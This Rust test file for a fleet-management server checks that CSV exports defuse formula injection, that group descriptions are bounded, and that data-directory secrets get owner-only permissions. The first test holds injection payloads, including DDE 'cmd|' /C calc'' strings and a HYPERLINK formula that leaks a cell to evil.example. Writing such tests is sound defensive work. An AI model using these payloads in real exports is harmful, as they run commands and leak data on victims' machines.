//! Security contract of what the server hands out and keeps: formula-safe
//! CSV exports, bounded group descriptions, and a data dir only the
//! server's user can read. Each test counts its attack attempts and how
//! many succeeded; the goal is none.

use crate::{
    helpers::{error_code, fleet, tenant_with_admin, TestEnv, TestServer},
    process::{serve_on_free_ports, Listening},
};
use entities::machines;
use sea_orm::{sea_query::Expr, ColumnTrait, EntityTrait, QueryFilter};
use serde_json::{json, Value};
use std::{os::unix::fs::PermissionsExt, path::Path, time::Duration};

/// Where a spreadsheet may cut a cell, and what starts a formula.
const SEPARATORS: [char; 6] = [';', ',', '\t', '\r', '\n', '|'];
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The parts of `text` a spreadsheet would run as formulas, whatever
/// separator it splits on and whether or not it honours quoting.
fn formulas(text: &str) -> Vec<String> {
    text.split(SEPARATORS)
        .filter(|part| part.trim_start_matches([' ', '"']).starts_with(FORMULA_STARTS))
        .map(str::to_owned)
        .collect()
}

#[tokio::test]
async fn the_machines_export_never_carries_a_live_formula() {
    let server = TestServer::spawn().await;
    let root = server.admin_token().await;
    let (admin, agents) = fleet(&server, &root, "Sheet", 2).await;
    let db = &server.state.services.infra.db.conn;

    // What an agent controls: its reported OS, version and agent version.
    let beat = json!({
        "hostname": agents[0].hostname,
        "os": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "os_version": "10.0;+cmd|' /C calc'!A0",
        "agent_version": "@SUM(1+1)*cmd|' /C calc'!A0",
    });
    agents[0].heartbeat(&beat).await;
    // What an admin of the tenant controls: group names, label keys and
    // values (labels are joined with `;` in one cell).
    let group = server
        .graphql_as(
            &admin,
            "mutation { createGroup(name: \"-2+3+cmd|' /C calc'!A0\") { id } }",
            json!({}),
        )
        .await;
    let group_id = group["data"]["createGroup"]["id"].clone();
    let ids: Vec<String> = agents.iter().map(|a| a.machine_id.to_string()).collect();
    let moved = server
        .graphql_as(
            &admin,
            "mutation($m: [ID!]!, $g: ID) { setMachinesGroup(machineIds: $m, groupId: $g) }",
            json!({ "m": ids, "g": group_id }),
        )
        .await;
    assert_eq!(moved["data"]["setMachinesGroup"], 2, "{moved}");
    let labels = [
        ("env", "x;=HYPERLINK(\"http://evil.example\",\"y\")"),
        ("=owner", "ops"),
        ("site", "par, -1+1"),
        ("rack", "r1|@A1"),
        ("note", "ok;\"=2+2\""),
    ];
    for (key, value) in labels {
        let label = server
            .graphql_as(
                &admin,
                "mutation($k: String!) { createLabel(key: $k) { id } }",
                json!({ "k": key }),
            )
            .await;
        let assigned = server
            .graphql_as(
                &admin,
                "mutation($l: ID!, $m: [ID!]!, $v: String) { assignLabel(labelId: $l, machineIds: $m, value: $v) }",
                json!({ "l": label["data"]["createLabel"]["id"], "m": ids, "v": value }),
            )
            .await;
        assert_eq!(assigned["data"]["assignLabel"], true, "{key}: {assigned}");
    }
    // Host names are RFC 1123 at the gateway; a row written otherwise
    // (an older version, a restore) is still exported safely.
    machines::Entity::update_many()
        .col_expr(machines::Column::Hostname, Expr::value("=cmd|' /C calc'!A0"))
        .filter(machines::Column::Id.eq(agents[1].machine_id))
        .exec(db)
        .await
        .unwrap();
    let attempts = 3 + 1 + labels.len() + 1;

    let resp = server
        .http
        .get(server.url("/api/export/machines"))
        .bearer_auth(&admin)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let text = resp.text().await.unwrap();
    let live = formulas(&text);
    eprintln!(
        "csv export: {attempts} attack values, {} live formulas",
        live.len()
    );
    assert!(live.is_empty(), "live formulas {live:#?} in\n{text}");

    // The values are all there, only defused, and the file still parses.
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    let first = rows
        .iter()
        .find(|r| r[col("machine_id")] == agents[0].machine_id.to_string())
        .unwrap();
    assert_eq!(
        &first[col("os")],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"
    );
    assert_eq!(&first[col("os_version")], "10.0;'+cmd|' /C calc'!A0");
    assert_eq!(&first[col("group")], "'-2+3+cmd|' /C calc'!A0");
    let cell = &first[col("labels")];
    for defused in [
        "x;'=HYPERLINK(",
        "'=owner=ops",
        "par,' -1+1",
        "r1|'@A1",
        "ok;'\"=2+2\"",
    ] {
        assert!(cell.contains(defused), "{defused} in {cell}");
    }
    let second = rows
        .iter()
        .find(|r| r[col("machine_id")] == agents[1].machine_id.to_string())
        .unwrap();
    assert_eq!(&second[col("hostname")], "'=cmd|' /C calc'!A0");
}

#[tokio::test]
async fn update_group_bounds_its_description_like_create_group() {
    let server = TestServer::spawn().await;
    let root = server.admin_token().await;
    let (_, _, admin) = tenant_with_admin(&server, &root, "Bounds").await;
    let created = server
        .graphql_as(
            &admin,
            "mutation { createGroup(name: \"Ops\", description: \"first\") { id } }",
            json!({}),
        )
        .await;
    let id = created["data"]["createGroup"]["id"].clone();
    let update = "mutation($id: ID!, $n: String, $d: String) { updateGroup(id: $id, name: $n, description: $d) { name description } }";
    let long = "d".repeat(501);
    let before = server
        .graphql_as(&admin, "{ groups { id name description } }", json!({}))
        .await;

    let mut attempts = 0;
    let mut changed = 0;
    for vars in [
        json!({ "id": id, "d": long }),
        json!({ "id": id, "n": "Renamed", "d": long }),
        json!({ "id": id, "d": format!("{}\u{7}", "d".repeat(10)) }),
    ] {
        attempts += 1;
        let body = server.graphql_as(&admin, update, vars.clone()).await;
        assert_eq!(error_code(&body), "BAD_USER_INPUT", "{vars}: {body}");
        assert_eq!(body["errors"][0]["extensions"]["field"], "description", "{body}");
        let after = server
            .graphql_as(&admin, "{ groups { id name description } }", json!({}))
            .await;
        if after != before {
            changed += 1;
        }
    }
    attempts += 1;
    let too_long = server
        .graphql_as(
            &admin,
            "mutation($d: String) { createGroup(name: \"Other\", description: $d) { id } }",
            json!({ "d": long }),
        )
        .await;
    assert_eq!(error_code(&too_long), "BAD_USER_INPUT", "{too_long}");
    let after = server
        .graphql_as(&admin, "{ groups { id name description } }", json!({}))
        .await;
    if after != before {
        changed += 1;
    }
    eprintln!("group description: {attempts} over-long writes, {changed} changed something");
    assert_eq!(changed, 0, "{after}");
    assert_eq!(after["data"]["groups"][0]["description"], "first");

    // At the bound it is accepted, trimmed like a name.
    let at_bound = server
        .graphql_as(
            &admin,
            update,
            json!({ "id": id, "d": format!("  {}\n", "d".repeat(500)) }),
        )
        .await;
    assert_eq!(
        at_bound["data"]["updateGroup"]["description"],
        Value::from("d".repeat(500)),
        "{at_bound}"
    );
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

fn set_mode(path: &Path, mode: u32) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// Runs `optralis serve` on `data_dir` until /health answers, then stops it.
async fn start_and_stop(env: &TestEnv, data_dir: &Path) {
    let mut cmd = tokio::process::Command::new(env!("CARGO_BIN_EXE_optralis"));
    cmd.arg("serve")
        .envs(&env.vars)
        .env("OPTRALIS_DATA_DIR", data_dir)
        .env("BIND_ADDRESS", "127.0.0.1")
        .env("RUST_LOG", "warn");
    let Listening { mut child, api, .. } = serve_on_free_ports(cmd).await;
    let port = api.port();
    let http = reqwest::Client::new();
    let mut healthy = false;
    for _ in 0..300 {
        if let Ok(r) = http.get(format!("http://127.0.0.1:{port}/health")).send().await {
            healthy = r.status().is_success();
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    child.kill().await.unwrap();
    assert!(healthy, "the server came up");
}

#[tokio::test]
async fn an_existing_data_dir_and_its_secrets_are_tightened_at_start() {
    let env = TestEnv::new().await;
    let root = tempfile::tempdir().unwrap();
    let dir = root.path().join("data");
    std::fs::create_dir(&dir).unwrap();
    set_mode(&dir, 0o755);
    let secret = "restored-from-backup-0123456789abcdef0123456789";
    std::fs::write(dir.join("jwt_secret"), secret).unwrap();
    set_mode(&dir.join("jwt_secret"), 0o644);
    std::fs::write(dir.join("old-ca.key"), "kept aside").unwrap();
    set_mode(&dir.join("old-ca.key"), 0o644);

    start_and_stop(&env, &dir).await;
    let mut exposed = Vec::new();
    let mut check = |path: &Path, want: u32| {
        if mode(path) != want {
            exposed.push(format!("{} is {:o}", path.display(), mode(path)));
        }
    };
    check(&dir, 0o700);
    for name in ["jwt_secret", "old-ca.key", "ca.key", "totp_key"] {
        check(&dir.join(name), 0o600);
    }
    assert_eq!(
        std::fs::read_to_string(dir.join("jwt_secret")).unwrap(),
        secret,
        "the restored secret is used, not replaced"
    );

    // Files the server created and someone loosened since, too.
    set_mode(&dir, 0o755);
    for name in ["ca.key", "totp_key", "jwt_secret"] {
        set_mode(&dir.join(name), 0o644);
    }
    start_and_stop(&env, &dir).await;
    check(&dir, 0o700);
    for name in ["jwt_secret", "ca.key", "totp_key"] {
        check(&dir.join(name), 0o600);
    }
    let mut loosened = 9;
    if env.pg.is_none() {
        // Created by SQLite at the first start under the umask, inside
        // the closed dir; tightened from the next start on.
        loosened += 1;
        check(&dir.join("optralis.db"), 0o600);
    }
    eprintln!(
        "data dir: {loosened} loosened paths, {} left readable by others",
        exposed.len()
    );
    assert!(exposed.is_empty(), "{exposed:#?}");
}
